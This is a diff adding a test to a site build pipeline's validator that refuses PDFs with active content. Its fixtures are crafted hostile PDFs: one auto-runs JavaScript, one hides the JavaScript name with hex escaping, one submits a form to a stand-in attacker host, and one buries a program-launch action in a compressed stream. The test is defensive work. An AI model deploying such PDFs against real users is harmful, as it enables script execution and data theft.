@@ -6,6 +6,7 @@
  * probes would write a marker file if they ran).
  */
 import fs from 'node:fs'
+import zlib from 'node:zlib'
 import path from 'node:path'
 import { NotAFileError, PublicFileTypeError, ReservedPublicPathError, scanContent } from '../../pipeline/content/contentSource'
 import { BadFrontMatterError, FrontMatterLanguageError } from '../../pipeline/content/frontMatter'
@@ -131,13 +132,33 @@ describe('nothing under content/ or public/ links out of its tree', () => {
 
 describe('public/ serves images, PDF, fonts and plain text, and SVGs that cannot run', () => {
   test('a file of another type fails naming it', () => {
-    const { root } = site({ 'public/docs/leads/page.html': '<script>alert(1)</script>', 'public/docs/leads/app.js': 'alert(1)', 'public/docs/leads/guide.pdf': '%PDF-1.4' })
+    const { root } = site({ 'public/docs/leads/page.html': '<script>alert(1)</script>', 'public/docs/leads/app.js': 'alert(1)', 'public/docs/leads/guide.pdf': '%PDF-1.4\n%%EOF\n' })
     const problems = problemsOf(root)
     expect(problems.map((problem) => [problem.constructor.name, problem.path])).toEqual([
       ['PublicFileTypeError', 'public/docs/leads/app.js'],
       ['PublicFileTypeError', 'public/docs/leads/page.html'],
     ])
     expect(problems[0]).toBeInstanceOf(PublicFileTypeError)
+  })
+
+  test("a PDF that runs, sends or carries something, or is no PDF, fails naming what it does: the browser's PDF viewer runs it outside the site's policy (a review's PDF ran an alert and a password field's script)", () => {
+    const plain = '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n3 0 obj << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/) >> >> endobj\n%%EOF\n'
+    const script = '%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n'
+    const spelt = '%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript >> >> endobj\n%%EOF\n'
+    const form = '%PDF-1.4\n1 0 obj << /A << /S /SubmitForm /F (https://evil.example/c) >> >> endobj\n%%EOF\n'
+    // A PDF 1.5 keeps its objects in compressed streams: the script is only there.
+    const packed = zlib.deflateSync(Buffer.from('<< /Type /Action /S /Launch /F (calc.exe) >>')).toString('latin1')
+    const streamed = `%PDF-1.5\n4 0 obj << /Type /ObjStm /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj\n%%EOF\n`
+    const files = { plain, script, spelt, form, streamed, fake: '<html>not a pdf</html>' }
+    const { root } = site(Object.fromEntries(Object.entries(files).map(([name, text]) => [`public/docs/leads/files/${name}.pdf`, text])))
+    fs.writeFileSync(path.join(root, 'public/docs/leads/files/streamed.pdf'), Buffer.from(streamed, 'latin1'))
+    const refused = Object.fromEntries(problemsOf(root).map((problem) => [path.basename(problem.path), problem.message]))
+    expect(Object.keys(refused).sort()).toEqual(['fake.pdf', 'form.pdf', 'script.pdf', 'spelt.pdf', 'streamed.pdf'])
+    expect(refused['script.pdf']).toBe('public/docs/leads/files/script.pdf: this PDF is refused: it runs JavaScript. Export it again as a plain PDF (no forms, scripts, attachments or password).')
+    expect(refused['spelt.pdf']).toContain('it runs JavaScript')
+    expect(refused['form.pdf']).toContain('it sends a form to an address')
+    expect(refused['streamed.pdf']).toContain('it launches a program or a file')
+    expect(refused['fake.pdf']).toContain('it is no PDF (it has no %PDF- header)')
   })
 
   test('a file at a path the site makes its own files at fails naming it: the build would write over it, or serve its own in its place', () => {
